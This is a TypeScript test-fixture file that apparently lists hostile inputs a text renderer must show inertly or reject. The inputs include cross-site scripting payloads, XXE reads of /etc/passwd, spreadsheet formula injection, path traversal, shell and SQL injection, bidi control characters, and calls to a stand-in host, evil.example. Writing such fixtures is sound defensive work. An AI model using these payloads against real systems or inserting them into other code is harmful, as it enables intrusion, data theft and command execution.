/** Text that would like to be more than text somewhere. `alarm` in it is what runs where one succeeds. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const alarm = 'window.pwned=1';

/** What a briefing may hold: each must be shown as it is written, everywhere, and be nothing but words. */
export const words: readonly Payload[] = [
  ['a script', `<script>${alarm}</script>`],
  ['an image with a handler', `<img src=x onerror="${alarm}">`],
  ['a drawing with a handler', `<svg/onload=${alarm}><script href="data:,${alarm}"/></svg>`],
  ['a frame', `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe><object data=//evil.example>`],
  ['a base and a refresh', `<base href=//evil.example><meta http-equiv=refresh content="0;//evil.example">`],
  ['the end of a double-quoted attribute', `" onmouseover="${alarm}" autofocus onfocus="${alarm}" x="`],
  ['the end of a single-quoted attribute', `' onmouseover='${alarm}' autofocus onfocus='${alarm}' x='`],
  ['the end of an unquoted attribute', `x onload=${alarm} style=display:none/`],
  ['the end of a title', `</title><script>${alarm}</script>`],
  ['the end of a script', `</script><script>${alarm}</script>`],
  ['the end of a style', `</style><style>*{display:none}@import"//evil.example/pwned.css"</style>`],
  ['the end of a text field', `</textarea></noscript></template></select><script>${alarm}</script>`],
  ['the end of a drawing', `</text></svg></desc></foreignObject><script>${alarm}</script>`],
  ['the end of the page', `</main></body></html><script>${alarm}</script>`],
  ['a comment', `<!--><img src=x onerror=${alarm}>--!><img src=x onerror=${alarm}>`],
  ['the end of a character section', `]]><script xmlns="http://www.w3.org/1999/xhtml">${alarm}</script>`],
  ['an entity of a document', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;%e;`],
  ['a processing instruction', `<?xml-stylesheet href="//evil.example"?><?php echo 1 ?>`],
  ['markup in references', `&lt;script&gt;${alarm}&lt;/script&gt; &#x3c;img&#62; &amp;quot; &Tab;&colon;`],
  ['the end of a JSON string', `"}],"@type":"Person","x":[{"y":"\\u003c/script\\u003e\\"`],
  ['the end of a rule of style', `}*{background:url(//evil.example/pwned)}/*\\*/;expression(${alarm})`],
  ['a program’s address', `javascript:${alarm}//`],
  ['a program’s address in disguise', `JaVa&Tab;ScRiPt&colon;${alarm} vbscript:msgbox(1)`],
  ['an address with data', `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`],
  [
    'Markdown',
    `[a](javascript:${alarm}) ![b](//evil.example/p.png) <https://evil.example> **c** _d_ \`e\` # f`
  ],
  ['the end of a fence', '``` ~~~ ::: :::passage{#pwned voice=author} :::stop{#x}'],
  ['a place that is not there', '[Atlantis](place:atlantis) [flow](flow:a/b) [^1] | a | b | --- |'],
  ['a formula', `=HYPERLINK("http://evil.example/?x="&A1,"click")`],
  ['a command in a cell', `+cmd|'/C calc'!A0 ;=1+1`],
  ['a macro in a cell', `@SUM(1+9)*cmd|' /C calc'!A0`],
  ['a negative in a cell', `-2+3+cmd|' /C calc'!A0`],
  ['a wide formula', `＝1+1 ＋1 －1 ＠SUM(1)`],
  ['templates', `{{constructor.constructor('${alarm}')()}} \${${alarm}} {@html x} {#if 1} <%= 7*7 %> #{1}`],
  ['marks of our own pages', '%dateline.head% %sveltekit.body% <!--ui:reader--> {{site}} %s %d %c'],
  ['patterns of a replacement', "$& $1 $` $' $$ $<name>"],
  ['percent signs', `%3Cscript%3E${alarm}%3C/script%3E %253Cscript%253E %00 %0d%0aSet-Cookie:%20pwned=1`],
  [
    'a way out of the folder',
    '../../../../etc/passwd ..\\..\\windows\\win.ini /%2e%2e/%2e%2e/ file:///etc/passwd'
  ],
  ['names that programs use', '__proto__ constructor prototype toString hasOwnProperty valueOf then'],
  ['YAML', '*alias &anchor !!js/function x # - ? | > @ % ` {a: b} [c]'],
  ['YAML’s own words', 'null'],
  ['letters that look alike', 'Тehrаn Τehran Ｔｅｈｒａｎ paypaⅼ'],
  ['joiners', 'نمی\u200cخواهم क्\u200dष 👨\u200d👩\u200d👧\u200d👦'],
  ['two directions', 'کرمان (Kerman) 1402/10/13 קרית <b>'],
  ['stacked marks', `Z${'\u0337\u0315\u0328'.repeat(30)}algo`],
  ['one long word', 'W'.repeat(180)],
  ['a terminal’s escape in letters', String.raw`\x1b[31m \e]8;;http://evil.example\a \u202e \033[2J`],
  ['a shell', '$(touch pwned) `touch pwned` ; rm -rf / && true | cat > pwned'],
  ['a query', `' OR 1=1; DROP TABLE places; --`]
].map(([name = '', text = '']) => ({ name, text }));

/** What no author's text may hold, wherever it stands and however it is written: a located error. */
export const refused: readonly Payload[] = [
  ['an override', 'a\u202egnp.exe\u202c'],
  ['an embedding', 'a\u202bb\u202c'],
  ['an isolate', 'a\u2067b\u2069'],
  ['NUL', 'a\u0000b'],
  ['a terminal’s colour', 'a\u001b[31mb'],
  ['a terminal’s link', 'a\u001b]8;;http://evil.example\u0007b'],
  ['a control of eight bits', 'a\u009b31mb'],
  ['a backspace', 'a\u0008\u0008b'],
  ['delete', 'a\u007fb'],
  ['a high half', 'a\ud800b'],
  ['a low half', 'a\udc00b'],
  ['no character', 'a\uffffb']
].map(([name = '', text = '']) => ({ name, text }));

/** Invisible, but no harm in a sentence: either a located error or carried. */
export const invisible: readonly Payload[] = [
  ['a line separator', 'a\u2028b'],
  ['a paragraph separator', 'a\u2029b'],
  ['a space of no width', 'a\u200bb'],
  ['a byte order mark', 'a\ufeffb'],
  ['a mark of direction', 'a\u200fb'],
  ['a soft hyphen', 'a\u00adb'],
  ['a tag', 'a\u{e0041}b']
].map(([name = '', text = '']) => ({ name, text }));

/** Addresses to which no reader may be led: a located error in every field that holds one. */
export const addresses: readonly Payload[] = [
  ['a program', `javascript:${alarm}`],
  ['a program in capitals', `JAVASCRIPT:${alarm}`],
  ['a program after a space', ` javascript:${alarm}`],
  ['a program with a tab', `java\tscript:${alarm}`],
  ['a program with a line feed', `java\nscript:${alarm}`],
  ['a program after a control', `\u0001javascript:${alarm}`],
  ['another language', 'vbscript:msgbox(1)'],
  ['data', `data:text/html,<script>${alarm}</script>`],
  ['a blob', 'blob:https://evil.example/1'],
  ['a file', 'file:///etc/passwd'],
  ['a source', 'view-source:https://evil.example'],
  ['another host without a scheme', '//evil.example/'],
  ['backslashes', '\\\\evil.example\\'],
  ['a mixed beginning', '/\\evil.example'],
  ['no host', 'https:///etc/passwd']
].map(([name = '', text = '']) => ({ name, text }));

/** Addresses that may stand, and must stay addresses. */
export const oddAddresses: readonly Payload[] = [
  ['quotation marks', `https://example.org/"onmouseover="${alarm}"x="`],
  ['single quotation marks', `https://example.org/'onmouseover='${alarm}'`],
  ['markup', `https://example.org/?q=<script>${alarm}</script>&amp;#x22;`],
  ['a program behind it', `https://example.org/#javascript:${alarm}`],
  ['brackets', 'https://example.org/a)b](c)[d'],
  ['percent signs', 'https://example.org/%22%3E%3Cscript%3E%0d%0a?x=%E0%A4%A'],
  ['a name and a password', 'https://example.org@evil.example/']
].map(([name = '', text = '']) => ({ name, text }));
